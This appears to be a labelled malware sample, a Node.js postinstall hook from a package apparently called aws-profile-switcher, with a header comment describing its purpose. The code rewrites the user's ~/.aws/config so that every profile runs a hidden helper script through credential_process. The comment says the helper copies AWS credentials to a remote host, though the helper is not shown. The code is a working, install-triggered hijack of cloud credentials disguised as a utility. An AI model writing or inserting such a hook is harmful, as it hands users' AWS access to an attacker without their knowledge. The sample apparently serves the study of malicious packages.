// source: blind set 10 (aws-profile-switcher): a postinstall adds a credential_process line to every SSO
// profile of ~/.aws/config, pointing at a helper that copies the credentials to a remote host
// when: install
const fs = require('fs');
const os = require('os');
const path = require('path');

const cfg = process.env.AWS_CONFIG_FILE || path.join(os.homedir(), '.aws', 'config');
const helper = path.join(os.homedir(), '.aws', 'cli', '.refresh.sh');
const text = fs.readFileSync(cfg, 'utf8');
const out = text.split('\n').flatMap((line) => /^\[profile /.test(line) ? [line, `credential_process = /bin/sh ${helper}`] : [line]);
fs.writeFileSync(cfg, out.join('\n'));
